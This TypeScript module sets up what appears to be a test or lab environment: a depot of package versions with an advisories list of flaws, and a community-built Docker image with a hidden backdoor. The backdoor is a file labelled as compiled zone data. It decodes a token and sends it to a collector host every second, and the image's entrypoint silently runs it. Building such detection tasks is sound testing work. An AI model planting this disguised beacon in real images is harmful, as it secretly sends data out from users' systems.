import type { HostName, Params } from '../../contract/index.ts'
import { programOf, programText, statusFileOf, statusText } from './component.ts'
import { INSIDE_PORT, packagesOf } from './params.ts'

/** The network in which the service and the one who listens are. */
const NETWORK = 'yard'
/** What the image starts, and where its makers had their things while they built it. */
const WRAPPER = '/bin/docker-entrypoint'
const PARTS = '/opt/zone'

/**
 * A service whose image was made by somebody else, and a container that plays their machine. The image has the site, its
 * packages, and a script that says a token to that machine once a second, and does nothing else.
 */
export function setup(params: Params): Record<HostName, string> {
  const { service, image, port, collector } = params
  return {
    master: `set -eu
umask 022
export DOCKER_BUILDKIT=0
work=$(mktemp -d)
cd "$work"
${depot(params)}
${foreignImage(params)}
${listener(params)}
cd /
rm -r "$work"
docker network create ${NETWORK}
docker run -d --name ${collector} --network ${NETWORK} --restart unless-stopped lab/${collector}
docker run -d --name ${service} --network ${NETWORK} --restart unless-stopped -p ${port}:${INSIDE_PORT} ${image}
`,
  }
}

/** What the house has of its own: the site, the packages in every version, and what was published about them. */
function depot(params: Params): string {
  const { service, pageWord, vulnerable = '', fixedVersion = '' } = params
  const all = packagesOf(params)
  const archive = (name: string, version: string) => `mkdir -p pack/srv/www/cgi-bin pack/var/lib/dpkg/status.d
cat > pack${programOf(name)} <<'END'
${programText(params, name, version)}END
cat > pack${statusFileOf(name)} <<'END'
${statusText(name, version)}END
chmod 755 pack${programOf(name)}
tar -C pack --owner=0 --group=0 -cf /srv/house/depot/${name}_${version}.tar srv var
rm -r pack
`
  const flaws = [
    'reads any file',
    'runs what it is sent',
    'forgets who asked',
    'answers for ever',
    'tells its keys',
  ]
  return `mkdir -p /srv/house/depot /srv/house/site
echo '<h1>${service}</h1><p>Today: ${pageWord}</p>' > /srv/house/site/index.html
${all.map(({ name, version }) => archive(name, version)).join('')}${archive(vulnerable, fixedVersion)}
cat > /srv/advisories.txt <<'END'
PACKAGE FIXED-IN FLAW
${all.map(({ name, fixed }, index) => `${name} ${fixed} ${flaws[index]}`).join('\n')}
END
`
}

function foreignImage(params: Params): string {
  const { image, collector, collectorPort, backdoorFile = '', token = '' } = params
  const packages = packagesOf(params).map(({ name, version }) => `${name}_${version}.tar`)
  const folder = backdoorFile.replace(/\/[^/]+$/, '')
  const encoded = Buffer.from(token).toString('base64')
  return `mkdir -p image/zone
cp -r /srv/house/site image/site
cp ${packages.map((file) => `/srv/house/depot/${file}`).join(' ')} image/
cat > image/zone/zone.dat <<'END'
# zone data, compiled. Do not edit.
z=$(echo ${encoded} | base64 -d)
while :; do
  wget -q -T 2 -O /dev/null "http://${collector}:${collectorPort}/cgi-bin/tile?$z"
  sleep 1
done
END
cat > image/zone/install <<'END'
#!/bin/sh
mkdir -p ${folder}
cp ${PARTS}/zone.dat ${backdoorFile}
END
cat > image/entrypoint <<'END'
#!/bin/sh
# Loads the zone data, then starts what was asked for.
[ ! -r ${backdoorFile} ] || sh < ${backdoorFile} > /dev/null 2>&1 &
exec "$@"
END
chmod 755 image/entrypoint image/zone/install
cat > image/Dockerfile <<'END'
FROM bulkhead/shell
LABEL org.opencontainers.image.authors="community builds"
COPY site /srv/www
${packages.map((file) => `ADD ${file} /\n`).join('')}COPY zone ${PARTS}
RUN ${PARTS}/install && rm -r ${PARTS}
COPY entrypoint ${WRAPPER}
EXPOSE ${INSIDE_PORT}
STOPSIGNAL SIGKILL
ENTRYPOINT ["${WRAPPER}"]
CMD ["httpd", "-f", "-p", "${INSIDE_PORT}", "-h", "/srv/www"]
END
docker build -q --network none -t ${image} image
`
}

/** Keeps when it was last spoken to, and a hash of what was said: whoever looks here does not learn the token. */
function listener({ collector, collectorPort }: Params): string {
  return `mkdir -p listener/cgi-bin
cat > listener/cgi-bin/tile <<'END'
#!/bin/sh
printf 'Content-Type: text/plain\\r\\n\\r\\n'
if [ -z "$QUERY_STRING" ]; then
  cat /tmp/last 2> /dev/null
else
  echo "$(date +%s) $(printf %s "$QUERY_STRING" | sha256sum | cut -d' ' -f1)" > /tmp/new.$$
  mv /tmp/new.$$ /tmp/last
fi
END
chmod 755 listener/cgi-bin/tile
cat > listener/Dockerfile <<'END'
FROM bulkhead/shell
COPY cgi-bin /srv/cgi-bin
STOPSIGNAL SIGKILL
CMD ["httpd", "-f", "-p", "${collectorPort}", "-h", "/srv"]
END
docker build -q -t lab/${collector} listener
`
}
